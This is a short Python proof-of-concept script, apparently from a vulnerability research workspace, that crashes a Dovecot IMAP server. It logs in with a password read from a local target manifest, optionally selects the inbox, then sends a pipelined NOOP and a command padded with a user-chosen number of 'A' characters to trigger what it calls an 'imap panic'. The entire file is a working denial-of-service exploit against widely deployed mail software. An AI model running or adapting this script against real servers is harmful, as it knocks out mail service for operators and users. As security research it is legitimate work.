#!/usr/bin/env python3
# dcrash2.py PORT LINELEN : Dovecot imap panic, minimal (password read from the manifest, redacted)
import socket, sys, time, re, select
port, alen = int(sys.argv[1]), int(sys.argv[2])
pw = re.search(r'^password\s*=\s*"([^"]*)"', open('/work/main/targets/dovecot/manifest.toml').read(), re.M).group(1)
def rd(c, w=0.5):
    out = b''; end = time.time() + w
    while True:
        r, _, _ = select.select([c], [], [], max(0, end - time.time()))
        if not r: break
        try: b = c.recv(1 << 20)
        except OSError as e: out += f'\r\n({e})'.encode(); break
        if not b: out += b'\r\n(EOF)'; break
        out += b; end = time.time() + w
    for l in out.split(b'\r\n'):
        if l: print('S:', l.replace(pw.encode(), b'<redacted>')[:150].decode('latin1'))
c = socket.create_connection(('127.0.0.1', port)); rd(c)
c.sendall(f'a LOGIN user1 {pw}\r\n'.encode()); print('C: a LOGIN user1 <redacted>'); rd(c)
import os
if not os.environ.get('NOSEL'): c.sendall(b'x EXAMINE INBOX\r\n'); print('C: x EXAMINE INBOX'); rd(c)
cmd2 = sys.argv[3].encode() if len(sys.argv) > 3 else b'UID FETCH 1 BODY.PEEK[HEADER]'
c.sendall(b'b NOOP\r\nc ' + cmd2 + b' ' + b'A' * alen + b'\r\n')
print(f'C: b NOOP')
print(f'C: c {cmd2.decode()} AAAA...A ({alen} x "A")      [b and c in one write]')
rd(c, 1)
